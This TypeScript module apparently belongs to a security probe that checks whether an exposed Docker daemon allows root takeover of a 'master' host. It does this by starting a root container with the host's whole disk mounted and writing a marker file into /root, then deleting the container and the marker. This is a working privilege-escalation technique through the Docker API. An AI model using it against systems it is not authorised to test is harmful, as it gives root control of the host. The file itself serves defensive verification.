import {
  ProbeError,
  type ConnectionAttempt,
  type ConnectionOutcome,
  type HostProbe,
  type Message,
  msg,
  verbatim,
} from '../../contract/index.ts'
import type { Step } from './attempt.ts'

const IMAGE = 'bulkhead/shell'

/** A request to master's Docker through a door that was found open. */
export type Call = (
  request: Pick<ConnectionAttempt, 'method' | 'path' | 'body' | 'timeoutMs'>,
) => Promise<ConnectionOutcome>

/**
 * Becomes root on master through Docker: a container that holds master's disk writes a file there. What
 * proves it is read by our probe, not by the daemon. Answers whether it did; leaves nothing behind.
 */
export async function takeOver(master: HostProbe, call: Call, token: string, step: Step): Promise<boolean> {
  const marker = `/root/bulkhead-was-here-${token}`
  const name = `bulkhead-visitor-${token}`
  try {
    const write = await runContainer(call, name, `echo ${token} > /h${marker}`)
    step(
      msg`Start a container from ${IMAGE} that has master's whole disk at /h, and write ${marker} from it`,
      write.message,
      write.ok,
    )
    if (!write.ok) return false
    const proven = (await master.readFile(marker))?.trim() === token
    step(
      msg`Look on master for ${marker}`,
      proven
        ? msg`It is there, and belongs to root: whoever can do this can do anything.`
        : msg`It is not there.`,
      proven,
    )
    return proven
  } finally {
    await cleanUp(master, name, marker, step)
  }
}

async function runContainer(
  call: Call,
  name: string,
  command: string,
): Promise<{ ok: boolean; message: Message }> {
  const HostConfig = { Binds: ['/:/h'], NetworkMode: 'none' }
  const body = { Image: IMAGE, Cmd: ['sh', '-c', command], User: '0', HostConfig }
  const created = await call({ method: 'POST', path: `/containers/create?name=${name}`, body })
  if (!is2xx(created)) return { ok: false, message: inShort(created) }
  const started = await call({ method: 'POST', path: `/containers/${name}/start` })
  if (!is2xx(started)) return { ok: false, message: inShort(started) }
  const ended = await call({ method: 'POST', path: `/containers/${name}/wait`, timeoutMs: 20_000 })
  if (!is2xx(ended)) return { ok: false, message: inShort(ended) }
  const status = ended.kind === 'answered' ? Number(/"StatusCode":(\d+)/.exec(ended.body)?.[1]) : NaN
  return status === 0
    ? { ok: true, message: msg`The daemon made container ${name}, ran it and reported success.` }
    : { ok: false, message: msg`The container ended with status ${status}.` }
}

/** Through the tunnel, because the door may be closing while we are inside. */
async function cleanUp(master: HostProbe, name: string, marker: string, step: Step): Promise<void> {
  const own: Call = (request) => master.daemon({ timeoutMs: 20_000, ...request })
  const remove = (container: string) =>
    own({ method: 'DELETE', path: `/containers/${container}?force=1&v=1` })
  await remove(name)
  if ((await master.stat(marker)) === undefined) return
  await runContainer(own, `${name}-out`, `rm -f /h${marker}`)
  await remove(`${name}-out`)
  if ((await master.stat(marker)) !== undefined) throw new ProbeError(msg`${marker} is still on ${'master'}`)
  step(msg`Remove the container and ${marker}`, msg`Nothing is left behind.`, true)
}

function is2xx(outcome: ConnectionOutcome): boolean {
  return outcome.kind === 'answered' && outcome.status >= 200 && outcome.status < 300
}

function inShort(outcome: ConnectionOutcome): Message {
  return outcome.kind === 'answered'
    ? msg`HTTP ${outcome.status}: ${outcome.body.trim().slice(0, 160)}`
    : verbatim(outcome.message)
}
